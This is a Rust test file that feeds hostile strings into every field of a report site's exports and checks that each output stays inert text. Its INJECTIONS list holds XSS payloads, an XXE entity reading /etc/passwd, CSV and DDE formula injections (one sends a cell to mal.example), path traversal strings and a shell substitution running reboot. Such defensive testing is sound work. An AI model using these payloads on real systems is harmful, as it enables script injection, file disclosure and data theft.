//! Hostile text in every field of every export: it is shown as text, opens as text, and makes no link.

use crate::{
    common::{self, Memory},
    published::{Files, published},
};
use quick_xml::events::Event;
use report_site::{Settings, Withdrawal};
use rules::{
    audit::{Audit, AuditOutcome, PageOutcome},
    made_with::MadeWith,
};
use std::io::{Cursor, Read};

const INJECTIONS: &[&str] = &[
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "]]><svg onload=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "--><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script><!--",
    "=HYPERLINK(\"https://mal.example/?\"&A1,\"ici\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "of:=1+1",
    "a\",\"b\r\nc;d",
    "\u{0}\u{1}\u{b}\u{1b}[31m\u{7f}",
    "\u{202E}gpj.exe\u{2066}",
    "\u{FFFE}\u{FFFF}\u{FEFF}",
    "../../../../etc/passwd",
    "..\\..\\x",
    "{{ 7*7 }}{% raw %}",
    "$(reboot)`reboot`",
    "%00%2e%2e%2f",
    "\\u003cscript\\u003e",
    "_x0041_",
    "#REF!",
    "",
    "   ",
];

/// A publication in which every field that others write, or that an operator may mistype, holds the text.
fn everywhere(text: &str) -> (Settings, Memory) {
    let mut settings = common::settings();
    settings.name = text.into();
    settings.operator.name = text.into();
    let mut source = common::observatory();
    source.audits.retain(|audit| audit.site.host != "grand.example");
    for member in &mut source.members {
        (member.name, member.kind, member.department) = (text.into(), Some(text.into()), Some(text.into()));
    }
    // Ids are unique, so only one member, one body and one site have the text as id.
    source.members[0].id = text.into();
    source.members[0].bodies = vec![text.into()];
    source.bodies[0].name = text.into();
    source.bodies.push(report_site::Body { id: text.into(), name: text.into(), ..Default::default() });
    for site in &mut source.sites {
        site.url = text.into();
    }
    source.sites[0].members = vec![text.into()];
    source.sites.push(report_site::Site { host: text.into(), url: text.into(), members: vec![text.into()] });
    source.audits.iter_mut().for_each(|audit| poison(audit, text));
    source.audits.push(Audit {
        site: rules::audit::AuditedSite { host: text.into(), ..source.audits[0].site.clone() },
        ..source.audits[0].clone()
    });
    let reply = report_site::Reply { author: text.into(), said_at: common::now(), text: text.into() };
    source.replies.insert(source.audits[1].id(), vec![reply]);
    for of in source.made_with.values_mut() {
        *of = made_with(text);
    }
    let withdrawal = Withdrawal { at: common::now(), reason: text.into() };
    source.withdrawn.insert(source.audits[0].id(), withdrawal);
    (settings, source)
}

fn made_with(text: &str) -> MadeWith {
    MadeWith { system: Some(text.into()), themes: vec![text.into()], agencies: vec![text.into()] }
}

fn poison(audit: &mut Audit, text: &str) {
    let text = || text.to_owned();
    audit.site.name = Some(text());
    audit.made_with = Some(made_with(&text()));
    audit.site.url = text();
    let setting = &mut audit.setting;
    (setting.program, setting.browser, setting.rule_set, setting.consent) = (text(), text(), text(), text());
    if let AuditOutcome::NotEvaluated { cause, detail } = &mut audit.outcome {
        (*cause, *detail) = (text(), Some(text()));
    }
    for page in &mut audit.pages {
        (page.url, page.kind) = (text(), text().as_str().into());
        (page.title, page.final_url, page.snapshot) = (Some(text()), Some(text()), Some(text()));
        if let PageOutcome::NotAudited { cause, detail } = &mut page.outcome {
            (*cause, *detail) = (text(), Some(text()));
        }
    }
    for finding in &mut audit.findings {
        (finding.id, finding.rule, finding.reason, finding.html) = (text(), text(), text(), text());
        finding.data = [("ratio".to_owned(), text()), (text(), text())].into();
        finding.places.iter_mut().for_each(|place| place.selector = text());
    }
    audit.rejudged_from = Some(text());
    common::poison(audit, &text(), &text());
}

#[test]
fn nothing_of_it_runs_or_leads_anywhere() {
    for text in INJECTIONS {
        let (settings, source) = everywhere(text);
        let files = published(settings, &source);
        check(text, &files);
    }
}

fn check(text: &str, files: &Files) {
    let mut kinds = std::collections::BTreeMap::<&str, usize>::new();
    for (path, content) in files {
        let harmless = |byte: u8| matches!(byte, b'a'..=b'z' | b'0'..=b'9' | b'.' | b'-' | b'_' | b'/');
        assert!(path.bytes().all(harmless) && !path.contains(".."), "{text:?}: {path}");
        let kind = path.rsplit('.').next().unwrap();
        *kinds.entry(kind).or_default() += 1;
        let place = format!("{text:?} in {path}");
        match kind {
            "csv" => csv(&place, content),
            "json" | "jsonld" => drop(serde_json::from_slice::<serde_json::Value>(content).expect(&place)),
            "atom" => xml(&place, std::str::from_utf8(content).expect(&place), ATOM),
            "svg" => xml(&place, std::str::from_utf8(content).expect(&place), SVG),
            "ods" | "xlsx" => archive(&place, content),
            "gz" => gzip(&place, content),
            "txt" => lines(&place, std::str::from_utf8(content).expect(&place)),
            "html" | "css" | "js" | "png" | "webp" => {}
            other => panic!("{place}: nothing here knows how to read .{other}"),
        }
    }
    let read = [
        "atom", "css", "csv", "gz", "html", "js", "json", "jsonld", "ods", "png", "svg", "txt", "webp",
        "xlsx",
    ];
    assert_eq!(kinds.keys().copied().collect::<Vec<_>>(), read);
}

/// Checks the index of the search: each line has four fields, or one in the list of parts.
fn lines(place: &str, text: &str) {
    for line in text.lines() {
        assert!(matches!(line.split('\t').count(), 1 | 4), "{place}: {line:?}");
        let hidden = |letter: char| letter.is_control() && letter != '\t';
        assert!(!line.contains(hidden) && !line.contains('\u{202E}'), "{place}: {line:?}");
    }
}

fn csv(place: &str, content: &[u8]) {
    let mut reader = csv::Reader::from_reader(content);
    for line in reader.records() {
        for cell in &line.expect(place) {
            let first = cell.trim_start_matches([' ', '\u{A0}', '"']).chars().next();
            assert!(
                !first.is_some_and(|letter| "=+-@\t\r\n＝＋－＠|%".contains(letter)),
                "{place}: a cell is {cell:?}"
            );
            let hidden = |letter: char| letter.is_control() && letter != '\n' && letter != '\t';
            assert!(!cell.contains(hidden) && !cell.contains('\u{202E}'), "{place}: {cell:?}");
        }
    }
}

const ATOM: &[&str] =
    &["feed", "title", "id", "updated", "author", "name", "link", "entry", "published", "summary"];
const SVG: &[&str] = &["svg", "title", "rect", "g", "text", "path"];

/// Checks XML: it is well-formed and has only our own elements, no event handler, and only web addresses.
fn xml(place: &str, text: &str, elements: &[&str]) {
    let mut reader = quick_xml::Reader::from_str(text);
    loop {
        match reader.read_event().unwrap_or_else(|error| panic!("{place}: {error}")) {
            Event::Start(tag) | Event::Empty(tag) => {
                let name = tag.name().as_ref().to_owned();
                assert!(elements.is_empty() || elements.contains(&name.as_str()), "{place}: <{name}>");
                for attribute in tag.attributes() {
                    let attribute = attribute.unwrap_or_else(|error| panic!("{place}: {error}"));
                    let name = attribute.key.as_ref().to_owned();
                    let value = attribute.value.to_string();
                    assert!(!name.starts_with("on"), "{place}: {name}");
                    let leads = name.ends_with("href") || name == "Target";
                    let scheme = value.split_once(':').map_or("", |(scheme, _)| scheme);
                    assert!(
                        !leads || matches!(scheme, "http" | "https") || !value.contains(':'),
                        "{place}: {value}"
                    );
                }
            }
            Event::DocType(_) => panic!("{place}: a document type"),
            Event::GeneralRef(name) => {
                let name = name.to_string();
                let known = ["lt", "gt", "amp", "quot", "apos"];
                assert!(name.starts_with('#') || known.contains(&name.as_str()), "{place}: &{name};");
            }
            Event::Eof => break,
            _ => {}
        }
    }
    let unreadable = |letter: char| matches!(letter, '\u{0}'..='\u{8}' | '\u{B}' | '\u{C}' | '\u{E}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}');
    assert!(!text.contains(unreadable), "{place}: a character that XML cannot hold");
}

fn archive(place: &str, content: &[u8]) {
    let mut archive = zip::ZipArchive::new(Cursor::new(content)).expect(place);
    for index in 0..archive.len() {
        let mut part = archive.by_index(index).unwrap();
        let name = part.name().unwrap().into_owned();
        assert!(part.enclosed_name().is_some(), "{place}: {name}");
        let mut text = String::new();
        part.read_to_string(&mut text).expect(place);
        if name == "mimetype" {
            continue;
        }
        let place = format!("{place}, {name}");
        xml(&place, &text, &[]);
        for formula in ["<f ", "<externalLink"] {
            assert!(!text.contains(formula), "{place}: {formula}");
        }
        let written = [("<f>", "</f>"), ("table:formula=\"", "\" ")].into_iter();
        for formula in written.flat_map(|(begin, end)| between(&text, begin, end)) {
            counts_and_nothing_else(&place, formula);
        }
    }
}

fn between<'t>(text: &'t str, begin: &'t str, end: &'t str) -> impl Iterator<Item = &'t str> {
    text.split(begin).skip(1).map(move |rest| rest.split(end).next().unwrap())
}

/// Checks a formula. This program writes formulas, so they only name cells and call a few functions, without foreign
/// text.
fn counts_and_nothing_else(place: &str, formula: &str) {
    const KNOWN: [&str; 7] = ["AND", "AVERAGE", "COUNT", "COUNTIF", "IF", "ROUND", "SUM"];
    for before in formula.split('(').rev().skip(1) {
        let at = before.rfind(|sign: char| !sign.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
        let called = &before[at..];
        assert!(called.is_empty() || KNOWN.contains(&called), "{place}: {called} in {formula}");
    }
    for foreign in ["://", "|", "&lt;", "<", "alert", "cmd"] {
        assert!(!formula.contains(foreign), "{place}: {formula}");
    }
}

fn gzip(place: &str, content: &[u8]) {
    let mut text = String::new();
    flate2::read::GzDecoder::new(content).read_to_string(&mut text).expect(place);
    serde_json::from_str::<serde_json::Value>(&text).expect(place);
}
